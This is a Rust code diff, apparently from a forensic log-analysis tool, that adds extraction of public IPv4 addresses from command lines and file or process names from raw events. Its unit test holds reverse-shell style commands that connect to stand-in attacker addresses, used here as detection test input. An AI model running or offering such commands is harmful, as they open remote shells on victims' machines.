@@ -5,7 +5,7 @@ use std::sync::Arc;
 
 use konseki_formats::text::longest_valid;
 use konseki_model::evidence::Zone;
-use konseki_model::{Because, Entity, EntityKind, Event, Kind, Problem, Records, Sink};
+use konseki_model::{Because, Core, Entity, EntityKind, Event, Kind, Problem, Records, Sink};
 use konseki_store::{Keep, Origin};
 
 use crate::detect::{Detector, Match, Scratch};
@@ -79,6 +79,19 @@ pub fn excerpt<'e>(event: &Event<'e>, values: &[(&str, &str)]) -> (&'e str, Opti
     (text.get(..end).unwrap_or_default(), None)
 }
 
+/// What a list of files or processes names, where it stands in the line as it is: a finding of a comparison rests on it,
+/// and nothing else of such an event is written the same way in all formats.
+fn name_in_line<'e>(event: &Event<'e>) -> &'e str {
+    if !matches!((event.kind, event.at), (Kind::FileSeen | Kind::ProcessSeen, konseki_model::At::Line(_))) {
+        return "";
+    }
+    let Core { object, command, .. } = event.core;
+    // JSON writes a path's backslashes twice; its last part is written once.
+    let last = object.rsplit(['/', '\\']).next().unwrap_or_default();
+    let stands = |text: &&str| (4..=400).contains(&text.len()) && memchr::memmem::find(event.raw, text.as_bytes()).is_some();
+    [object, command, last].into_iter().find(stands).unwrap_or_default()
+}
+
 fn entities(event: &Event<'_>, host: &str) -> BTreeSet<Entity> {
     let core = &event.core;
     let mut all = BTreeSet::new();
@@ -107,7 +120,33 @@ fn entities(event: &Event<'_>, host: &str) -> BTreeSet<Entity> {
     if let Some(kind) = object {
         add(kind, core.object, "object");
     }
+    for address in outside(core.command) {
+        add(EntityKind::Address, address, "to");
+    }
     all
+}
+
+/// Addresses on the Internet that a command names: it goes there.
+fn outside(command: &str) -> impl Iterator<Item = &str> {
+    let words = command.split(|c: char| !c.is_ascii_digit() && c != '.').map(|word| word.trim_matches('.'));
+    words.filter(|word| word.len() >= 7).filter(|word| {
+        word.parse::<std::net::Ipv4Addr>().is_ok_and(|four| {
+            let [first, second, ..] = four.octets();
+            let shared = first == 100 && (64..128).contains(&second);
+            !(four.is_private() || four.is_loopback() || four.is_link_local() || first == 0 || first >= 224 || shared)
+        })
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    #[test]
+    fn a_command_names_where_it_goes() {
+        let named = |text| super::outside(text).collect::<Vec<_>>();
+        assert_eq!(named("sh -i | openssl s_client -connect 203.0.113.50:8443 >/tmp/p"), ["203.0.113.50"]);
+        assert_eq!(named("connect((\"198.51.100.9\",4444)) from 10.0.0.1"), ["198.51.100.9"]);
+        assert_eq!(named("setup.exe /v 6.1.7601.17514 127.0.0.1"), Vec::<&str>::new());
+    }
 }
 
 impl Sheet<'_> {
@@ -165,7 +204,8 @@ impl Sink for Sheet<'_> {
         for found in &matches {
             self.take_match(event, host, found);
         }
-        let (text, encoding) = if keeps_excerpt(event.kind) || !correlated.is_empty() { excerpt(event, &[]) } else { ("", None) };
+        let whole = keeps_excerpt(event.kind) || !correlated.is_empty();
+        let (text, encoding) = if whole { excerpt(event, &[]) } else { (name_in_line(event), None) };
         if let (false, Some(time)) = (correlated.is_empty(), event.time) {
             let fields = self.detector.group_fields(event);
             self.tally.outcome.correlated.push(Correlated {
